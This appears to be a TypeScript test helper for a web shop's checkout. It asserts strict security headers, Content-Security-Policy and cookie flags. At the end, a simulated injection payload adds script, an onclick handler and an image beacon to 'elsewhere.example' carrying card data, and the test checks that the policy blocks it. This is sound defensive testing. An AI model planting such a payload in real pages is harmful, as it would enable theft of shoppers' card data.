import assert from 'node:assert/strict'
import type { Page } from 'playwright-core'
import type { Exchange } from './recorder.ts'

/** Every page of the shop and of the checkout forbids what it does not need; the checkout has no inline script. */
export function assertStrictPages(exchanges: readonly Exchange[]): void {
  const pages = exchanges.filter(({ headers }) =>
    headers.some(([name, text]) => name === 'content-type' && text.startsWith('text/html')),
  )
  const ours = pages.filter(({ url }) => url.pathname.startsWith('/pay/'))
  assert.ok(ours.length > 10 && pages.length > ours.length, 'pages of both kinds were seen')
  for (const { url, headers } of pages) assertStrictPolicy(url, headers)
  for (const { url, headers, body } of ours) {
    const header = new Map(headers)
    assert.equal(header.get('x-frame-options'), 'DENY', url.pathname)
    assert.match(header.get('referrer-policy') ?? '', /^(no-referrer|same-origin)$/, url.pathname)
    assert.equal(header.get('x-robots-tag'), 'noindex, nofollow', url.pathname)
    assert.doesNotMatch(body(), /<script(?![^>]* src=)|<[^>]+ on[a-z]+=|javascript:/i, url.pathname)
  }
}

/** There are two cookies, and no script, other site or other host gets at them. */
export function assertStrictCookies(exchanges: readonly Exchange[]): void {
  const cookies = exchanges.flatMap(({ headers }) =>
    headers.filter(([name]) => name === 'set-cookie').map(([, text]) => text),
  )
  assert.deepEqual([...new Set(cookies.map((text) => text.split('=', 1)[0] ?? ''))].toSorted(), [
    '__Host-counterfoil',
    'stub-and-quill',
  ])
  for (const text of cookies) {
    assert.match(text, /; HttpOnly/)
    assert.match(text, /; SameSite=Lax/)
    assert.match(text, /; Path=\/(;|$)/)
    assert.doesNotMatch(text, /; Domain/i)
    if (text.startsWith('__Host-')) assert.match(text, /; Secure/)
  }
}

function assertStrictPolicy(url: URL, headers: readonly (readonly [string, string])[]): void {
  const header = new Map(headers)
  const policy = header.get('content-security-policy') ?? ''
  for (const part of ["default-src 'none'", "frame-ancestors 'none'", "base-uri 'none'", 'form-action ']) {
    assert.ok(policy.includes(part), `${url.pathname} has ${part}`)
  }
  assert.doesNotMatch(policy, /unsafe|\*|data:|https:/, url.pathname)
  assert.equal(header.get('x-content-type-options'), 'nosniff', url.pathname)
  assert.equal(header.get('cache-control'), 'no-store', url.pathname)
  assert.equal(header.get('cross-origin-opener-policy'), 'same-origin', url.pathname)
}

/** What an attacker would do who could put something into the page; it runs there, past the policy. */
const INJECTION = `(async () => {
  const blocked = []
  document.addEventListener('securitypolicyviolation', (event) => blocked.push(event.effectiveDirective))
  const script = document.createElement('script')
  script.textContent = "document.documentElement.dataset.taken = 'over'"
  const image = document.createElement('img')
  image.src = 'http://elsewhere.example/?card'
  document.body.append(script, image)
  document.body.setAttribute('onclick', "document.documentElement.dataset.taken = 'over'")
  document.body.click()
  await new Promise((resolve) => requestAnimationFrame(() => requestAnimationFrame(resolve)))
  return { blocked, taken: document.documentElement.dataset.taken ?? 'not' }
})()`

/** Tries it; fails when any of it got through. */
export async function tryToInject(page: Page): Promise<void> {
  const { blocked, taken } = await page.evaluate<{ blocked: string[]; taken: string }>(INJECTION)
  assert.equal(taken, 'not', 'no injected script has run')
  assert.deepEqual(blocked.toSorted(), ['img-src', 'script-src-attr', 'script-src-elem'])
}
